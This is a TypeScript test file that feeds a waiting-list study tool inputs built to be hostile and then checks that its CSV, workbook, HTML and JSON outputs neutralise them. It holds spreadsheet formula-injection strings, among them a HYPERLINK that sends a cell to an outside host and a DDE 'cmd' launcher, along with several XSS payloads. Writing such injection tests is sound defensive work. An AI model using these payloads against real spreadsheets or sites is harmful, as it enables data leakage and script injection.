import { mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { parse } from 'csv-parse/sync'
import { strFromU8, unzipSync } from 'fflate'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { fairwait } from './fairwait-process.ts'

/** What a study may hold that another program would take for a formula, a command or markup. */
const FORMULA = '=HYPERLINK("http://example.org/?"&A1,"see")'
const COMMAND = "@SUM(1+1)*cmd|'/C calc'!A0"
const MARKUP = '<img src=x onerror=alert(1)><script>alert(1)</script>'
const BREAKOUT = '</script></title></style>--><svg onload=alert(1)>"\' onmouseover="alert(1)'

const STUDY = {
  schemaVersion: 1,
  name: 'hostile',
  title: `${FORMULA} ${MARKUP}`,
  description: BREAKOUT,
  baseline: {
    name: COMMAND,
    groups: [
      { label: FORMULA, population: 50_000 },
      { label: BREAKOUT, population: 50_000 },
    ],
    specialties: [{ code: '-1', name: `+1+1 ${MARKUP}`, clockStartsPerWeek: [60, 60], waiting: { firstAppointment: [120, 120], admission: [0] }, firstAppointmentsPerWeek: 110, admissionsPerWeek: 0, admittedShare: 0 }],
  },
  time: { start: '2026-04-06', weeks: 60 },
  seed: MARKUP,
  replications: 2,
  reference: 'as-it-is',
  scenarios: {
    'as-it-is': { title: COMMAND },
    more: { title: BREAKOUT, invest: [{ lever: 'capacity', budget: { perYear: 250_000, years: 1 } }] },
  },
  targets: [{ id: 'short', title: `-2+3${MARKUP}`, measure: 'waiting', atMost: 1, by: '2027-03-31' }],
}

let folder = ''
const read = (name: string): string => readFileSync(join(folder, 'out', name), 'utf8')

beforeAll(async () => {
  folder = mkdtempSync(join(tmpdir(), 'fairwait-hostile-'))
  writeFileSync(join(folder, 'hostile.json'), JSON.stringify(STUDY))
  for (const command of ['decompose', 'run']) {
    const { code, stderr } = await fairwait([command, 'hostile.json', '--out', 'out', '--quiet'], folder)
    if (code !== 0) throw new Error(stderr)
  }
}, 300_000)
afterAll(() => rmSync(folder, { recursive: true, force: true }))

describe('a study whose names are formulas and markup', () => {
  it('gives CSV files of which no cell is a formula', () => {
    const files = readdirSync(join(folder, 'out')).filter((name) => name.endsWith('.csv'))
    expect(files.length).toBeGreaterThanOrEqual(5)
    let texts = 0
    for (const name of files) {
      for (const row of parse(read(name))) {
        for (const cell of row) {
          if (/^-?[\d.]+(?:e[+-]?\d+)?$/i.test(cell)) continue
          texts += 1
          expect([name, cell]).toEqual([name, expect.not.stringMatching(/^[=+\-@\t\r\n]/)])
        }
      }
    }
    expect(texts).toBeGreaterThan(1000)
  })

  it('gives a workbook whose formulas are all its own, and whose links lead nowhere else', () => {
    const parts = unzipSync(readFileSync(join(folder, 'out', 'workbook.xlsx')))
    const sheets = Object.entries(parts).filter(([name]) => name.endsWith('.xml')).map(([, bytes]) => strFromU8(bytes)).join('')
    expect(sheets).toContain('=HYPERLINK(&quot;http')
    const formulas = [...sheets.matchAll(/<f>(.*?)<\/f>/g)].map(([, formula]) => formula)
    expect(formulas.length).toBeGreaterThan(5)
    for (const formula of formulas) expect(formula).not.toMatch(/HYPERLINK|cmd\||WEBSERVICE|example\.org/i)
    const allParts = Object.keys(parts)
    expect(allParts.filter((name) => /externalLink|vba|activeX|embedding/i.test(name))).toEqual([])
    const relations = allParts.filter((name) => name.endsWith('.rels')).map((name) => strFromU8(parts[name])).join('')
    expect(relations).not.toMatch(/TargetMode="External"/)
  })

  it.for(['report.html', 'decomposition.html'])('gives %s in which all of it is text', (name, { skip }) => {
    if (!readdirSync(join(folder, 'out')).includes(name)) skip(`${name} is not among this study's results`)
    const html = read(name)
    expect(html).toContain('&lt;script&gt;alert(1)')
    const outsideScript = html.replaceAll(/<(script|style)\b[^>]*>[^]*?<\/\1>/g, '')
    expect(outsideScript).not.toMatch(/<img src=x|<svg onload|<script>alert/)
    for (const [tag] of outsideScript.matchAll(/<[a-z][^>]*>/gi)) expect(tag.replaceAll(/"[^"]*"/g, '""')).not.toMatch(/\son\w+\s*=/i)
    const policy = /Content-Security-Policy" content="([^"]*)"/.exec(html)?.[1].replaceAll('&#39;', "'") ?? ''
    expect(policy).toMatch(/^default-src 'none'; /)
    expect(policy).not.toMatch(/unsafe-eval|script-src[^;]*unsafe-inline|https?:/)
  })

  it('keeps JSON files and metadata what they are', () => {
    for (const name of readdirSync(join(folder, 'out')).filter((each) => each.endsWith('.json'))) expect(() => JSON.parse(read(name)) as unknown).not.toThrow()
    expect((JSON.parse(read('summary.json')) as { scenarios: { title: string }[] }).scenarios[1].title).toBe(BREAKOUT)
  })
})
